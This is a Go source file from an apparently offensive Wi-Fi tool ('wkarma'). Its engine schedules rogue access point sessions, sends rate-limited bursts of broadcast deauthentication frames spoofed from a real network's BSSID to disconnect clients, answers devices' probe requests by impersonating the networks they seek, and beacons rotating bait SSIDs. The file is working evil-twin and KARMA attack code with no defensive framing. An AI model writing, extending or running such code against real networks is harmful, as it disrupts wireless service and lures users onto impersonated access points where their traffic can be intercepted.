package engine

import (
	"context"
	"net"
	"time"

	"github.com/lcalzada-xor/wkarma/internal/core/domain"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/trace"
)

var broadcastAddr = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// schedule purges expired requests and launches what precedence allows.
func (e *Engine) schedule(ctx context.Context, now time.Time) {
	if n := e.sched.Purge(now); n > 0 {
		e.logger.Debug("requests expired", "count", n)
	}

	for _, req := range e.sched.Select(e.mux.Free(), e.mux.CountTier(domain.TierMedium)) {
		if !req.IsCloneAttack {
			req.BSSID = e.sessionBSSID(now)
		}

		_, span := e.tracer.Start(ctx, "LaunchSession", trace.WithAttributes(
			attribute.String("ssid", req.SSID),
			attribute.String("tier", req.Tier.String()),
			attribute.Int("channel", req.Channel),
		))
		err := e.sched.Launch(req, now, e.mux)
		if err != nil {
			span.RecordError(err)
			span.SetStatus(codes.Error, err.Error())
			span.End()
			e.logger.Warn("launch failed", "ssid", req.SSID, "tier", req.Tier.String(), "error", err)
			continue
		}
		span.End()

		if req.IsCloneAttack {
			e.deauthBurst(req, now)
		}
	}
}

// deauthBurst knocks clients off the real network a clone mimics: up to
// DeauthBurst broadcast deauthentications spoofed from its BSSID, each
// subject to the channel rate limit.
func (e *Engine) deauthBurst(req domain.AttackRequest, now time.Time) {
	if !e.coord.AllowDisruptive(req.Channel) {
		e.logger.Debug("deauth suppressed by portal lock", "ssid", req.SSID, "channel", req.Channel)
		return
	}
	if err := e.coord.Tune(domain.OwnerPortal, req.Channel); err != nil {
		return
	}
	sent := 0
	for i := 0; i < domain.DeauthBurst; i++ {
		if !e.limiter.Allow(req.Channel, now) {
			break
		}
		frame, err := e.builder.Deauth(broadcastAddr, req.BSSID, req.BSSID, domain.DefaultDeauthCode, false)
		if err != nil {
			e.logger.Warn("deauth build failed", "error", err)
			return
		}
		if !e.transmit(frame) {
			break
		}
		sent++
	}
	e.logger.Info("deauth burst", "ssid", req.SSID, "bssid", req.BSSID.String(), "channel", req.Channel, "frames", sent)
}

// answerProbe replies to a directed probe for a network we currently
// impersonate on the channel the radio sits on: a live session, or the bait
// SSID the batcher just advertised.
func (e *Engine) answerProbe(ev domain.ProbeEvent, bait bool, now time.Time) {
	ch := e.coord.Channel()
	if ch == 0 || (ev.Channel != 0 && ev.Channel != ch) {
		return
	}

	var (
		bssid net.HardwareAddr
		sec   domain.SecuritySummary
	)
	if s, ok := e.mux.Find(ev.SSID); ok && s.Channel == ch {
		bssid, sec = s.BSSID, s.Security
	} else if bait {
		bssid = e.rotator.BSSID(now)
	} else {
		return
	}

	frame, err := e.builder.ProbeResponse(bssid, ev.MAC, ev.SSID, ch, sec)
	if err != nil {
		e.logger.Debug("probe response build failed", "ssid", ev.SSID, "error", err)
		return
	}
	e.transmit(frame)
}

// advertise beacons the next bait SSID from the rotating address.
func (e *Engine) advertise(now time.Time) {
	ssid, ok := e.batcher.Next(now)
	if !ok {
		return
	}
	frame, err := e.builder.Beacon(e.rotator.BSSID(now), ssid, e.coord.Channel(), domain.SecuritySummary{})
	if err != nil {
		e.logger.Debug("beacon build failed", "ssid", ssid, "error", err)
		return
	}
	e.transmit(frame)
}

// upkeep re-beacons engaged networks on the current channel.
func (e *Engine) upkeep(now time.Time) {
	ch := e.coord.Channel()
	if ch == 0 {
		return
	}
	for _, rec := range e.mux.DueBeacons(ch, now, domain.BeaconUpkeepInterval) {
		frame, err := e.builder.Beacon(rec.BSSID, rec.SSID, rec.Channel, rec.Security)
		if err != nil {
			continue
		}
		if e.transmit(frame) {
			rec.LastBeaconSent = now
		}
	}
}

// transmit sends one frame; failures are logged and left for the next pass.
func (e *Engine) transmit(frame []byte) bool {
	if err := e.radio.Transmit(frame); err != nil {
		e.txErrors++
		e.logger.Debug("transmit failed", "error", err)
		return false
	}
	e.framesSent++
	return true
}
